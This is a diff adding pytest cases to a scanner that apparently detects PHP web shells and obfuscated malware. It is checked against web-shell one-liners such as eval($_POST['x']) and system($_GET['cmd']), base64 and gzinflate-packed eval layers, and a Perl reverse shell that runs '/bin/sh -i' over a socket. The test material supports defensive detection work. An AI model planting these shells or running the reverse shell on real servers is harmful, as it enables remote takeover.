@@ -9,6 +9,7 @@ from __future__ import annotations
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from rulekit import match_bytes
 
 SOURCES = [
     "$_GET['c']",
@@ -255,3 +256,198 @@ def test_single_file_database_admin_tool_is_only_medium(match_data, rank):
     assert worst(matches, rank) == rank("medium")
     description = next(m["description"] for _, r, m in matches if r.endswith("db_admin"))
     assert "database administration tool" in description
+
+
+# -- false-positive classes seen on real applications (issue 14) ---------------------------------
+
+ATTACK_STRINGS = """[
+            ['<?php eval($_POST["x"]); ?>'],
+            ['<?php system($_GET["cmd"]); ?>'],
+            ['<?php assert(base64_decode($_REQUEST["a"])); ?>'],
+        ]"""
+
+
+def _attack_string_test_case() -> str:
+    return f"""<?php
+namespace Vendor\\Firewall\\Tests;
+
+use PHPUnit\\Framework\\TestCase;
+
+class PayloadFilterTest extends TestCase
+{{
+    public static function payloads(): array
+    {{
+        return {ATTACK_STRINGS};
+    }}
+
+    /** @dataProvider payloads */
+    public function testPayloadIsBlocked(string $payload): void
+    {{
+        $this->assertTrue((new \\Vendor\\Firewall\\Filter())->blocks($payload));
+    }}
+}}
+"""
+
+
+def test_security_plugin_unit_test_with_attack_strings_is_not_flagged(match_data):
+    path = "/var/www/html/wp-content/plugins/firewall/tests/Unit/PayloadFilterTest.php"
+    assert match_data(_attack_string_test_case(), path) == []
+
+
+def test_attack_strings_outside_a_tests_folder_are_still_critical(match_data):
+    # the test-case exemption needs the name, the folder and the class: a shell dropped in uploads
+    # that only imitates a test class is still reported
+    path = "/var/www/html/wp-content/uploads/PayloadFilterTest.php"
+    assert "php_code_exec" in families(match_data(_attack_string_test_case(), path), "critical")
+
+
+def test_php_grammar_inside_a_commonjs_bundle_is_not_flagged(match_data):
+    code = (
+        "module.exports = { php: \"<?php eval($_POST['x']); system($_GET['cmd']); "
+        "assert(base64_decode($_REQUEST['a'])); ?>\" };\n"
+    )
+    assert match_data(code, "/var/www/html/node_modules/highlighter/lang/php.cjs") == []
+
+
+def test_file_manager_connector_dispatching_cmd_to_a_method_is_not_flagged(match_data):
+    code = """<?php
+class Connector
+{
+    private $fm;
+    public function run()
+    {
+        $cmd = isset($_GET['cmd']) ? $_GET['cmd'] : '';
+        $args = $_GET;
+        if (!in_array($cmd, array('open', 'ls', 'tree', 'upload', 'rm'), true)) {
+            $cmd = 'open';
+        }
+        $this->output($this->fm->exec($cmd, $args));
+    }
+    public function exec($cmd, $args)
+    {
+        return call_user_func(array($this, 'cmd_' . $cmd), $args);
+    }
+}
+"""
+    assert match_data(code, "/var/www/html/vendor/filemanager/php/connector.php") == []
+
+
+def test_archive_in_storage_holding_php_sources_is_not_a_polyglot(match_data):
+    member = b"<?php eval($_POST['x']); system($_GET['c']); ?>"
+    stored_zip = b"PK\x03\x04" + b"\x14\x00" * 10 + b"plugin/main.php" + member + b"PK\x05\x06" + b"\x00" * 18
+    assert match_data(stored_zip, "/var/www/html/storage/app/backups/plugin.zip") == []
+
+
+def test_php_payload_merely_named_like_an_archive_is_still_a_polyglot(match_data):
+    code = "<?php eval($_POST['x']); ?>"
+    assert "polyglot" in families(match_data(code, "/var/www/html/uploads/data.zip"))
+
+
+def test_vendor_encoded_module_is_reported_only_as_low_encoded_code(match_data, rank):
+    blob = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" * 12
+    code = f"""<?php
+/**
+ * Licence module of a commercial theme.
+ * @package ExampleTheme
+ * Copyright (c) 2021 Example Vendor. All rights reserved.
+ */
+eval(base64_decode('{blob}'));
+"""
+    matches = match_data(code)
+    assert rules_of(matches) == {"fim_php_obfuscation_encoded_code"}
+    assert worst(matches, rank) == rank("low")
+
+
+def test_same_encoded_eval_reading_the_request_is_not_downgraded(match_data, rank):
+    blob = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" * 12
+    code = f"""<?php
+/** @package ExampleTheme */
+if (isset($_GET['go'])) {{ eval(base64_decode('{blob}')); }}
+"""
+    matches = match_data(code)
+    assert "fim_php_obfuscation_encoded_code" not in rules_of(matches)
+    assert worst(matches, rank) <= rank("high")
+
+
+def test_preg_replace_e_in_an_old_library_is_medium_never_critical(match_data, rank):
+    body = "\n".join(f"function helper_{i}($s) {{ return trim($s) . '{i}'; }}" for i in range(120))
+    code = f"""<?php
+// an old BBCode library (PHP 4 era)
+{body}
+function bbcode($text) {{
+    return preg_replace('/\\[b\\](.*?)\\[\\/b\\]/ie', "'<b>' . strtoupper('\\\\1') . '</b>'", $text);
+}}
+$page = isset($_GET['page']) ? (int) $_GET['page'] : 1;
+"""
+    matches = match_data(code)
+    assert "fim_php_code_exec_preg_replace_eval_modifier" in rules_of(matches)
+    assert worst(matches, rank) == rank("medium")
+
+
+def test_changelog_quoting_php_is_not_flagged(match_data):
+    text = (
+        "Version 3.2\n- Blocked uploads such as <?php system($_GET['c']); ?> and "
+        "<?php eval(base64_decode($_POST['p'])); ?> in the media library.\n"
+    )
+    for name in ("CHANGELOG.md", "changelog.txt", "readme.txt"):
+        assert match_data(text, f"/var/www/html/wp-content/plugins/guard/{name}") == [], name
+
+
+def test_developer_tool_phar_is_not_flagged(match_data):
+    blob = "\\x65\\x76\\x61\\x6c" * 30
+    code = (
+        "#!/usr/bin/env php\n<?php\nPhar::mapPhar('tool.phar');\nrequire 'phar://tool.phar/bin/run';\n"
+        f'__HALT_COMPILER(); ?>\n$c = eval(base64_decode($x)); "{blob}" {"QUJD" * 150}\n'
+    )
+    assert match_data(code, "/home/dev/bin/tool.phar") == []
+
+
+# -- layers of the unpacking stage (externals layer / chain / has_code_view) ---------------------
+
+
+def test_eval_of_request_inside_a_comment_is_left_to_the_comment_stripped_view(rules):
+    stored = "<?php\n/* old example: eval($_POST['x']); */\necho 'hello';\n"
+    stripped = "<?php\n\necho 'hello';\n"
+    path = "/var/www/html/hello.php"
+    assert "php_code_exec" in families(match_bytes(rules, stored.encode(), path))
+    assert match_bytes(rules, stored.encode(), path, has_code_view=True) == []
+    assert match_bytes(rules, stripped.encode(), path, layer=1, chain="strip-comments") == []
+
+
+def test_eval_of_request_in_code_still_fires_on_the_comment_stripped_view(rules):
+    code = "<?php\n// tool\neval($_POST['x']);\n"
+    stripped = "<?php\n\neval($_POST['x']);\n"
+    path = "/var/www/html/t.php"
+    assert match_bytes(rules, code.encode(), path, has_code_view=True) == []
+    view = match_bytes(rules, stripped.encode(), path, layer=1, chain="strip-comments")
+    assert "php_code_exec" in families(view, "critical")
+
+
+def test_vendor_header_is_not_lost_on_the_comment_stripped_view(rules, rank):
+    blob = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" * 12
+    stripped = f"<?php\n\neval(base64_decode('{blob}'));\n"
+    view = match_bytes(rules, stripped.encode(), "/var/www/html/x.php", layer=1, chain="strip-comments")
+    assert worst(view, rank) >= rank("medium")
+
+
+def test_decoded_layer_is_matched_like_a_file(rules):
+    inner = b"<?php system($_GET['c']); ?>"
+    got = match_bytes(rules, inner, "/var/www/html/x.php", layer=2, chain="base64>gzinflate")
+    assert "php_command_exec" in families(got, "critical")
+
+
+def test_decoded_layer_that_starts_with_eval_of_a_packed_literal_is_matched(rules):
+    layer = b"eval(gzinflate(base64_decode('" + b"QUJD" * 60 + b"')));"
+    got = match_bytes(rules, layer, "/var/www/html/x.php", layer=3, chain="base64>gzinflate")
+    assert "php_obfuscation" in families(got)
+
+
+def test_decoded_perl_back_connect_is_critical_but_the_same_text_as_stored_is_left_to_cgi_rules(rules):
+    perl = (
+        b"#!/usr/bin/perl\nuse Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n"
+        b"connect(S, sockaddr_in($ARGV[1], inet_aton($ARGV[0])));\nexec('/bin/sh -i');\n"
+    )
+    decoded = match_bytes(rules, perl, "/var/www/html/x.php", layer=1, chain="base64")
+    assert "fim_php_command_exec_decoded_network_shell_script" in rules_of(decoded)
+    stored = match_bytes(rules, perl, "/var/www/html/x.php")
+    assert "fim_php_command_exec_decoded_network_shell_script" not in rules_of(stored)
